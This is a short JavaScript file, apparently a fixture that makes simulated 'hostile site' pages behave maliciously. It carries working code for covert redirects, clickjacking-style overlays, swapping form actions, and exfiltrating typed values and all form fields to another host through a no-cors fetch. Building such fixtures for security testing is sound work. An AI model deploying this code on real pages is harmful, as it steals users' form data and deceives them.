// What the pages of the hostile sites do by script; everything is found by data attributes.
(() => {
  const each = (name, fn) => { for (const el of document.querySelectorAll(`[data-${name}]`)) fn(el, el.getAttribute(`data-${name}`)); };
  const fields = () => {
    const data = new URLSearchParams();
    for (const el of document.querySelectorAll('input')) if (el.name) data.append(el.name, el.value);
    return data;
  };
  each('goto', (_, to) => setTimeout(() => location.replace(to), 200));
  each('later', (el, to) => setTimeout(() => { el.src = to; }, 600));
  each('swap', (_, to) => document.addEventListener('input', (e) => {
    if (e.target.type !== 'password') location.replace(to + encodeURIComponent(e.target.value));
  }, true));
  each('cover', (el, name) => {
    const under = document.getElementsByName(name)[0];
    const box = under.getBoundingClientRect();
    el.style = `position:absolute;border:0;z-index:9;left:${box.left + scrollX}px;top:${box.top + scrollY}px;width:${box.width}px;height:${box.height}px`;
  });
  each('submit-swap', (_, to) => document.addEventListener('submit', (e) => { e.target.action = to; }, true));
  each('fetch-elsewhere', (_, to) => {
    const send = (e) => {
      if (e.type === 'keydown' ? e.key !== 'Enter' : !e.target.closest('[data-submit]')) return;
      e.preventDefault();
      e.stopImmediatePropagation();
      fetch(to, { method: 'POST', mode: 'no-cors', body: fields() }).catch(() => {});
    };
    document.addEventListener('click', send, true);
    document.addEventListener('keydown', send, true);
  });
})();
